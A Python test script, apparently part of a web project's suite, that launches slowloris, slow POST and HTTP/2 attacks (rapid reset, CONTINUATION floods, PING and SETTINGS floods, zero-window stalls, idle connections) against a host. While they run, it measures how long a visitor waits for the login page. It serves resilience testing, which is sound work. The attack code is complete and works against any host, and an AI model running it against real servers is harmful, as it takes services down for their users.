"""`python -m tests.web.strangers HOST PORT SECONDS [SOURCE] [ATTACK …]`: strangers who try to take the pages down, and how long a visitor waits meanwhile.

Raw octets over TLS, for a well-behaved library would not send them. Each attack opens its connections again when they are closed. A row tells what
it is; figures: `sent` (requests or frames), `closed` (connections that the server ended), `worst_s` and `refused` of a visitor who asks for the
login page all the time from another address.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import ssl
import sys
from collections.abc import Awaitable, Callable
from dataclasses import dataclass

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RESET, SETTINGS, PING, CONTINUATION = 0x1, 0x3, 0x4, 0x6, 0x9
END_STREAM, END_HEADERS = 0x1, 0x4
INITIAL_WINDOW_SIZE = 0x4
BATCH = 500  # frames in one write
VISITOR = "127.0.0.9"
GIVE_UP = 10.0  # seconds a visitor waits for the page
Pair = tuple[asyncio.StreamReader, asyncio.StreamWriter]


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """RFC 9113 section 4.1."""
    return len(payload).to_bytes(3) + bytes((kind, flags)) + stream.to_bytes(4) + payload


def request(method: str, path: str) -> bytes:
    """A header block without the dynamic table (RFC 7541 section 6)."""

    def literal(index: int, value: str) -> bytes:
        return bytes((index, len(value))) + value.encode()

    get = b"\x82" if method == "GET" else b"\x83"
    return get + b"\x87" + literal(0x04, path) + literal(0x01, "localhost")


@dataclass
class Seen:
    sent: int = 0
    closed: int = 0


class Client:
    """One connection of an attacker."""

    def __init__(self, host: str, port: int, source: str, protocol: str) -> None:
        self._where = host, port
        self._source = source
        self._context = context(protocol)

    async def open(self) -> Pair:
        async with asyncio.timeout(GIVE_UP):
            return await asyncio.open_connection(*self._where, ssl=self._context, local_addr=(self._source, 0))


def context(protocol: str) -> ssl.SSLContext:
    made = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    made.check_hostname, made.verify_mode = False, ssl.CERT_NONE
    made.set_alpn_protocols([protocol])
    return made


async def trickle(pair: Pair, seen: Seen, head: bytes) -> None:
    """A request that begins and comes an octet at a time."""
    pair[1].write(head)
    seen.sent += 1
    while not pair[0].at_eof():
        pair[1].write(b"x")
        await pair[1].drain()
        await asyncio.sleep(0.5)


async def hold(pair: Pair, seen: Seen, first: bytes, count: int, one: Callable[[int], bytes]) -> None:
    """That many requests, then nothing."""
    pair[1].write(PREFACE + first + b"".join(one(1 + 2 * at) for at in range(count)))
    seen.sent += count
    while await pair[0].read(1 << 16):
        pass


async def flood(pair: Pair, seen: Seen, first: bytes, one: Callable[[int], bytes]) -> None:
    """As many frames as the line takes."""
    pair[1].write(PREFACE + frame(SETTINGS, 0, 0) + first)
    reading = asyncio.create_task(pair[0].read(-1))
    stream = 1
    try:
        while not reading.done():
            await asyncio.sleep(0)
            pair[1].write(b"".join(one(stream + 2 * at) for at in range(BATCH)))
            stream += 2 * BATCH
            await pair[1].drain()
            seen.sent += BATCH
    finally:
        reading.cancel()


async def silence(pair: Pair, seen: Seen) -> None:
    seen.sent += 1
    await pair[0].read(-1)


POST = b"POST /login HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 60000\r\n\r\n"
OPEN = HEADERS, END_HEADERS
WHOLE = HEADERS, END_HEADERS | END_STREAM
NO_WINDOW = frame(SETTINGS, 0, 0, INITIAL_WINDOW_SIZE.to_bytes(2) + (0).to_bytes(4))


@dataclass(frozen=True)
class Attack:
    protocol: str
    connections: int
    act: Callable[[Pair, Seen], Awaitable[None]]
    again: bool = True  # opens another connection when one is closed


ATTACKS: dict[str, Attack] = {
    "slow POST": Attack("http/1.1", 64, lambda p, s: trickle(p, s, POST)),
    "eight slow POSTs": Attack("http/1.1", 8, lambda p, s: trickle(p, s, POST), again=False),
    "slow header": Attack("http/1.1", 64, lambda p, s: trickle(p, s, b"GET /login HTTP/1.1\r\nHost: localhost\r\nX: ")),
    "open requests": Attack(
        "h2", 4, lambda p, s: hold(p, s, frame(SETTINGS, 0, 0), 90, lambda at: frame(*OPEN, at, request("POST", "/login")))
    ),
    "90 open requests": Attack(
        "h2", 1, lambda p, s: hold(p, s, frame(SETTINGS, 0, 0), 90, lambda at: frame(*OPEN, at, request("POST", "/login"))),
        again=False,
    ),
    "90 unread answers": Attack(
        "h2", 1, lambda p, s: hold(p, s, NO_WINDOW, 90, lambda at: frame(*WHOLE, at, request("GET", "/login"))),
        again=False,
    ),
    "unread answers": Attack(
        "h2", 4, lambda p, s: hold(p, s, NO_WINDOW, 90, lambda at: frame(*WHOLE, at, request("GET", "/login")))
    ),
    "rapid reset": Attack(
        "h2", 4, lambda p, s: flood(p, s, b"", lambda at: frame(*WHOLE, at, request("GET", "/login")) + frame(RESET, 0, at, bytes(4)))
    ),
    "endless CONTINUATION": Attack(
        "h2", 4, lambda p, s: flood(p, s, frame(HEADERS, 0, 1, b"\x82"), lambda at: frame(CONTINUATION, 0, 1))
    ),
    "large CONTINUATION": Attack(
        "h2", 4, lambda p, s: flood(p, s, frame(HEADERS, 0, 1, b"\x82"), lambda at: frame(CONTINUATION, 0, 1, b"\x00\x7f\xff\x7f" * 250))
    ),
    "PING": Attack("h2", 4, lambda p, s: flood(p, s, b"", lambda at: frame(PING, 0, 0, bytes(8)))),
    "SETTINGS": Attack("h2", 4, lambda p, s: flood(p, s, b"", lambda at: frame(SETTINGS, 0, 0))),
    "idle connections": Attack("h2", 200, silence),
}  # fmt: skip


async def attack(name: str, host: str, port: int, source: str, seconds: float) -> Seen:
    """For that long, from one address."""
    row, seen = ATTACKS[name], Seen()
    client = Client(host, port, source, row.protocol)

    async def one() -> None:
        while row.again or not seen.closed:
            with contextlib.suppress(OSError, TimeoutError):
                pair = await client.open()
                try:
                    await row.act(pair, seen)
                finally:
                    seen.closed += 1
                    pair[1].transport.abort()
            await asyncio.sleep(0.01)

    tasks = [asyncio.create_task(one()) for _ in range(row.connections)]
    await asyncio.sleep(seconds)
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    return seen


async def visit(host: str, port: int, source: str) -> float:
    """Seconds until the login page has come over a connection of its own; GIVE_UP when it has not."""
    loop = asyncio.get_running_loop()
    begun = loop.time()
    with contextlib.suppress(OSError, TimeoutError):
        async with asyncio.timeout(GIVE_UP):
            reader, writer = await Client(host, port, source, "http/1.1").open()
            writer.write(b"GET /login HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
            status = await reader.readline()
            writer.transport.abort()
            if status.split()[1:2] in ([b"200"], [b"303"]):
                return loop.time() - begun
    return GIVE_UP


async def measure(name: str, host: str, port: int, source: str, seconds: float) -> dict[str, object]:
    attacking = asyncio.create_task(attack(name, host, port, source, seconds))
    waits = []
    while not attacking.done():
        waits.append(await visit(host, port, VISITOR))
        await asyncio.sleep(0.2)
    seen = await attacking
    refused = sum(wait >= GIVE_UP for wait in waits)
    return {
        "attack": name, "seconds": seconds, "sent": seen.sent, "closed": seen.closed,
        "visits": len(waits), "refused": refused, "worst_s": round(max(waits), 3),
    }  # fmt: skip


async def main(host: str, port: str, seconds: str, source: str = "127.0.0.2", *names: str) -> None:
    for name in names or ATTACKS:
        sys.stdout.write(json.dumps(await measure(name, host, int(port), source, float(seconds))) + "\n")


if __name__ == "__main__":
    asyncio.run(main(*sys.argv[1:]))
